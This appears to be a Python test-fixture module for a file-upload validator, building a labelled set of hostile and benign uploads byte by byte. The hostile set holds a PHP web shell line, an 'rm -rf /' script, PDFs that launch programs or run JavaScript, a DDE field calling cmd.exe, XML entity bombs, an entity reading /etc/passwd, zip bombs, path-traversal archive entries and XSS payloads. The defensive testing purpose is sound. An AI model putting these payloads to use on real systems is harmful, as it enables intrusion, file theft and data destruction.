"""Files people send, good and bad, made here byte by byte; nothing hostile is stored in the repository."""

import io
import stat
import struct
import zipfile
import zlib

import docx
import openpyxl

from lipportal.shared.documents.excel import Column, write_sheet

SIGNATURE = b"\x89PNG\r\n\x1a\n"


def chunk(name, body=b""):
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width=2, height=2, *, extra=b"", data=None):
    pixels = zlib.compress(b"\x00" + b"\x00" * width * 3) if data is None else data
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return SIGNATURE + chunk(b"IHDR", header) + extra + chunk(b"IDAT", pixels) + chunk(b"IEND")


def jpeg(width=2, height=2, *, comment=b"", tail=b""):
    about = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    words = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    size = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x12\x34\x56"
    return b"\xff\xd8" + about + words + size + scan + b"\xff\xd9" + tail


def pdf(*objects, tail=b"", trailer=b""):
    body = b"\n".join(b"%d 0 obj\n%s\nendobj" % (n, o) for n, o in enumerate((b"<< /Type /Catalog >>", *objects), 1))
    return (
        b"%PDF-1.7\n" + body + b"\nxref\n0 1\ntrailer\n<< /Root 1 0 R %s >>\nstartxref\n9\n%%%%EOF\n" % trailer + tail
    )


def hidden_in_stream(text):
    packed = zlib.compress(text)
    return (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream"
    )


def saved(document):
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def word():
    document = docx.Document()
    document.add_heading("Procès-verbal", 1)
    document.add_paragraph("The table met; twelve people came. See <html> and DDE in the notes.")
    return saved(document)


def workbook():
    return write_sheet("Members", [Column("name", "Name")], [{"name": "=1+1"}])


def repacked(source, *, drop=(), add=None, replace=None, compression=zipfile.ZIP_DEFLATED, comment=b""):
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as package, zipfile.ZipFile(stream, "w", compression) as made:
        for name in package.namelist():
            if name not in drop:
                made.writestr(name, (replace or {}).get(name, package.read(name)))
        for name, body in (add or {}).items():
            made.writestr(name, body)
        made.comment = comment
    return stream.getvalue()


def linked(source):
    entry = zipfile.ZipInfo("word/link")
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    stream = io.BytesIO(source)
    with zipfile.ZipFile(stream, "a") as package:
        package.writestr(entry, "/etc/passwd")
    return stream.getvalue()


def locked(source):
    """The same package with the lock bit of its first part set, in both places."""
    content = bytearray(source)
    content[6] |= 1
    content[content.rfind(b"PK\x01\x02", 0, content.rfind(b"PK\x05\x06")) + 8] |= 1
    return bytes(content)


def relations(kind, target):
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    one = f'<Relationship Id="rId1" Type="{base}{kind}" Target="{target}" TargetMode="External"/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{one}</Relationships>'


def archive(parts):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, body in parts.items():
            package.writestr(name, body)
    return stream.getvalue()


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PAGE = b"<!doctype html><html><body onload=alert(1)>"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
FETCHES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
WORD, BOOK = word(), workbook()
MACRO_TYPES = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'

HOSTILE = {
    "program named pdf": ("report.pdf", b"MZ\x90\x00" + b"\x00" * 200),
    "elf named pdf": ("report.pdf", b"\x7fELF" + b"\x00" * 200),
    "shell script named txt.sh": ("notes.txt.sh", b"#!/bin/sh\nrm -rf /\n"),
    "double ending exe": ("report.pdf.exe", pdf()),
    "upper case exe": ("REPORT.EXE", b"MZ"),
    "null in the name": ("report.exe\x00.pdf\x00.exe", pdf()),
    "direction mark in the name": ("annual\u202efdp.exe", pdf()),
    "no ending": ("report", pdf()),
    "only an ending": (".pdf.", b"MZ"),
    "odd ending": ("report.pdf ::$DATA", pdf()),
    "full-width dot": ("report．pdf", pdf()),
    "php": ("report.php", b"<?php system($_GET['x']);"),
    "htaccess": (".htaccess", b"AddType application/x-httpd-php .pdf"),
    "svg": ("drawing.svg", SVG),
    "svg named png": ("drawing.png", SVG),
    "svg named txt": ("drawing.txt", SVG),
    "html": ("page.html", PAGE),
    "html named pdf": ("page.pdf", PAGE),
    "html named png": ("page.png", PAGE),
    "html named jpg": ("page.jpg", PAGE),
    "html named txt": ("page.txt", PAGE),
    "html named csv": ("page.csv", b"  \n" + PAGE),
    "html with a mark named txt": ("page.txt", b"\xef\xbb\xbf" + PAGE),
    "xml named txt": ("page.txt", ENTITIES),
    "gif": ("moving.gif", b"GIF89a" + b"\x00" * 20),
    "gif named png": ("moving.png", b"GIF89a" + b"\x00" * 20),
    "webp named jpg": ("photo.jpg", b"RIFF\x00\x00\x00\x00WEBPVP8 "),
    "script in a png": ("photo.png", png(extra=chunk(b"tEXt", b"Comment\x00" + SCRIPT))),
    "page after a png": ("photo.png", png() + PAGE),
    "archive after a png": ("photo.png", png() + archive({"a": "b"})),
    "archive inside a png": ("photo.png", png(extra=chunk(b"zzZz", archive({"a": "b"})))),
    "png cut short": ("photo.png", png()[:-10]),
    "png with a wrong sum": ("photo.png", png()[:-1] + b"\x00"),
    "png of a sea of points": ("photo.png", png(width=60_000, height=60_000, data=b"x")),
    "png of no points": ("photo.png", png(width=0)),
    "png without a picture": ("photo.png", SIGNATURE + chunk(b"IHDR", b"\x00" * 13) + chunk(b"IEND")),
    "png of an endless chunk": ("photo.png", SIGNATURE + b"\xff\xff\xff\xffIHDR" + b"\x00" * 50),
    "script in a jpeg": ("photo.jpg", jpeg(comment=SCRIPT)),
    "php in a jpeg": ("photo.jpeg", jpeg(comment=b"<?php system('x'); ?>")),
    "archive after a jpeg": ("photo.jpg", jpeg(tail=archive({"META-INF/MANIFEST.MF": "x"}))),
    "jpeg cut short": ("photo.jpg", jpeg()[:30]),
    "jpeg of a sea of points": ("photo.jpg", jpeg(65_535, 65_535)),
    "jpeg of three bytes": ("photo.jpg", b"\xff\xd8\xff"),
    "pdf with a program": ("report.pdf", pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
    "pdf with a program in disguise": ("report.pdf", pdf(b"<< /S /J#61vaScr#69pt /JS (x) >>")),
    "pdf with a packed program": ("report.pdf", pdf(hidden_in_stream(b"1 0 << /S /JavaScript /JS (x) >>"))),
    "pdf that starts a program": ("report.pdf", pdf(b"<< /S /Launch /F (calc.exe) >>")),
    "pdf with a file inside": (
        "report.pdf",
        pdf(b"<< /Type /Filespec /EF << /F 3 0 R >> >>", b"<< /Type /EmbeddedFile >>"),
    ),
    "pdf with a film": ("report.pdf", pdf(b"<< /Subtype /RichMedia >>")),
    "pdf that sends a form": ("report.pdf", pdf(b"<< /S /SubmitForm /F (http://example.test) >>")),
    "locked pdf": ("report.pdf", pdf(trailer=b"/Encrypt 5 0 R")),
    "pdf cut short": ("report.pdf", pdf()[:60]),
    "pdf and archive at once": ("report.pdf", pdf() + archive({"a": "b"})),
    "pdf with a page after it": ("report.pdf", pdf(tail=PAGE)),
    "pdf with a page before it": ("report.pdf", PAGE + pdf()),
    "pdf with a script inside": ("report.pdf", pdf(b"(" + SCRIPT + b")")),
    "test virus": ("notes.txt", EICAR),
    "test virus in a pdf": ("report.pdf", pdf(b"(" + EICAR + b")")),
    "nothing at all": ("report.pdf", b""),
    "text with null": ("notes.txt", b"a\x00b"),
    "text in utf-16": ("notes.txt", "hello".encode("utf-16")),
    "text in no encoding": ("notes.txt", b"caf\xe9 \xff"),
    "program named csv": ("table.csv", b"\x7fELF\x01\x01"),
    "plain archive": ("papers.zip", archive({"a.txt": "a"})),
    "plain archive named docx": ("papers.docx", archive({"a.txt": "a"})),
    "java archive named xlsx": ("papers.xlsx", archive({"META-INF/MANIFEST.MF": "x"})),
    "workbook named docx": ("papers.docx", BOOK),
    "word named xlsx": ("papers.xlsx", WORD),
    "old word format": ("papers.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512),
    "macro document": ("papers.docm", WORD),
    "macro document named docx": ("papers.docx", repacked(WORD, add={"word/vbaProject.bin": "x"})),
    "macro type named docx": ("papers.docx", repacked(WORD, replace={"[Content_Types].xml": MACRO_TYPES})),
    "macro sheet": ("papers.xlsx", repacked(BOOK, add={"xl/macrosheets/sheet1.xml": "<x/>"})),
    "control that acts": ("papers.docx", repacked(WORD, add={"word/activeX/activeX1.xml": "<x/>"})),
    "object inside": ("papers.docx", repacked(WORD, add={"word/embeddings/oleObject1.bin": "x"})),
    "program inside": ("papers.docx", repacked(WORD, add={"word/media/x.exe": "MZ"})),
    "field that starts a program": (
        "papers.docx",
        repacked(WORD, add={"word/footer9.xml": "<w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"}),
    ),
    "link that starts a program": (
        "papers.xlsx",
        repacked(BOOK, add={"xl/externalLinks/x.xml": '<ddeLink ddeService="cmd"/>'}),
    ),
    "template from elsewhere": (
        "papers.docx",
        repacked(
            WORD, add={"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://example.test/x.dotm")}
        ),
    ),
    "template from a share": (
        "papers.docx",
        repacked(WORD, add={"word/_rels/settings.xml.rels": relations("attachedTemplate", "\\\\example.test\\x.dotm")}),
    ),
    "picture from elsewhere": (
        "papers.docx",
        repacked(WORD, add={"word/_rels/footer9.xml.rels": relations("image", "http://example.test/x.png")}),
    ),
    "object from elsewhere": (
        "papers.xlsx",
        repacked(BOOK, add={"xl/_rels/x.xml.rels": relations("oleObject", "http://example.test/x")}),
    ),
    "entity bomb in a workbook": ("papers.xlsx", repacked(BOOK, add={"xl/x.xml": ENTITIES})),
    "entity bomb in utf-16": ("papers.xlsx", repacked(BOOK, add={"xl/x.xml": ENTITIES.decode().encode("utf-16")})),
    "entity that fetches": ("papers.docx", repacked(WORD, add={"word/x.xml": FETCHES})),
    "entity across a cut": ("papers.docx", repacked(WORD, add={"word/x.xml": b" " * (256 * 1024 - 4) + ENTITIES})),
    "zip bomb": ("papers.docx", repacked(WORD, add={"word/media/a.bmp": b"\x00" * 210_000_000})),
    "steep zip bomb": ("papers.docx", repacked(WORD, add={"word/media/a.bmp": b"\x00" * 20_000_000})),
    "ten thousand parts": ("papers.docx", repacked(WORD, add={f"word/media/{n}": "" for n in range(10_000)})),
    "part that steps out": ("papers.docx", repacked(WORD, add={"../../etc/cron.d/x": "x"})),
    "part at the root": ("papers.docx", repacked(WORD, add={"/etc/passwd": "x"})),
    "part on a drive": ("papers.docx", repacked(WORD, add={"c:/windows/x": "x"})),
    "part with a backslash": ("papers.docx", repacked(WORD, add={"word\\..\\..\\x": "x"})),
    "part twice": ("papers.docx", repacked(WORD, add={"Word/Document.xml": "<x/>"})),
    "part that is a link": ("papers.docx", linked(WORD)),
    "locked part": ("papers.docx", locked(WORD)),
    "odd packing": ("papers.docx", repacked(WORD, compression=zipfile.ZIP_LZMA)),
    "words behind the package": ("papers.docx", repacked(WORD, comment=PAGE)),
    "page before the package": ("papers.docx", PAGE + WORD),
    "package before the package": ("papers.docx", archive({"evil": "x"}) + WORD),
    "package cut short": ("papers.docx", WORD[:-200]),
    "package with a broken part": ("papers.docx", WORD[:60] + b"\x00" * 20 + WORD[80:]),
    "shortcut": ("papers.lnk", b"L\x00\x00\x00"),
    "calendar": ("meeting.ics", b"BEGIN:VCALENDAR\nEND:VCALENDAR"),
    "stylesheet": ("site.css", b"body{}"),
    "javascript": ("site.js", b"alert(1)"),
    "rtf": ("papers.rtf", b"{\\rtf1\\object}"),
    "rtf named docx": ("papers.docx", b"{\\rtf1\\object}"),
    "tiff named jpg": ("photo.jpg", b"II*\x00" + b"\x00" * 30),
    "heic named jpg": ("photo.jpg", b"\x00\x00\x00\x18ftypheic"),
    "tar named pdf": ("papers.pdf", b"a.txt".ljust(257, b"\x00") + b"ustar\x00"),
    "postscript named pdf": ("papers.pdf", b"%!PS-Adobe-3.0"),
    "windows script named csv": ("table.csv.vbs", b"MsgBox 1"),
    "name of nothing": ("\u202e\u200b\r\n", pdf()),
    "name that is a path": ("../../../../etc/passwd", b"root:x:0:0"),
}

BENIGN = {
    "pdf": ("Annual report 2026.pdf", pdf(), "application/pdf"),
    "pdf in capitals": ("REPORT.PDF", pdf(), "application/pdf"),
    "pdf with blank lines behind": ("report.pdf", pdf(tail=b"\r\n\n"), "application/pdf"),
    "pdf with packed, harmless objects": ("r.pdf", pdf(hidden_in_stream(b"1 0 << /Type /Page >>")), "application/pdf"),
    "pdf saved twice": ("r.pdf", pdf() + pdf(), "application/pdf"),
    "png": ("photo.png", png(), "image/png"),
    "png with words": ("photo.png", png(extra=chunk(b"tEXt", b"Title\x00Our table")), "image/png"),
    "large png": ("poster.png", png(10_000, 9_000, data=b"x"), "image/png"),
    "jpeg": ("photo.jpg", jpeg(), "image/jpeg"),
    "jpeg, other ending": ("photo.JPEG", jpeg(comment=b"Lake"), "image/jpeg"),
    "jpeg with a clip behind it": ("photo.jpg", jpeg(tail=b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 50), "image/jpeg"),
    "word": ("Procès-verbal.docx", WORD, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "word with a link": (
        "minutes.docx",
        repacked(WORD, add={"word/_rels/footer9.xml.rels": relations("hyperlink", "https://example.test/")}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "word from a local template": (
        "minutes.docx",
        repacked(
            WORD, add={"word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///C:\\Users\\a\\x.dotx")}
        ),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "word with a chart's workbook": (
        "minutes.docx",
        repacked(WORD, add={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": BOOK}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "workbook": ("members.xlsx", BOOK, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "workbook made elsewhere": (
        "members.xlsx",
        saved(openpyxl.Workbook()),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "workbook with printer settings": (
        "members.xlsx",
        repacked(BOOK, add={"xl/printerSettings/printerSettings1.bin": "x"}),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "slides": (
        "table.pptx",
        archive({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<x/>"}),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "text": ("notes.txt", "Les élus ont dit « oui ».\n".encode(), "text/plain; charset=utf-8"),
    "text in Arabic": ("notes.txt", "مرحبا بكم".encode(), "text/plain; charset=utf-8"),
    "text with a mark": ("notes.txt", b"\xef\xbb\xbfhello", "text/plain; charset=utf-8"),
    "text about html": ("notes.txt", b"Use <script> with care; 3 < 4.", "text/plain; charset=utf-8"),
    "text that begins with a number sign": ("notes.txt", b"< 5 people came", "text/plain; charset=utf-8"),
    "table": ("table.csv", "name;hours\nRené;-5\n".encode(), "text/csv; charset=utf-8"),
    "dots in the name": ("Plan.v2.final.pdf", pdf(), "application/pdf"),
    "path in the name": ("C:\\Users\\me\\report.pdf", pdf(), "application/pdf"),
    "name in Arabic": ("تقرير.pdf", pdf(), "application/pdf"),
    "very long name": ("a" * 300 + ".pdf", pdf(), "application/pdf"),
}
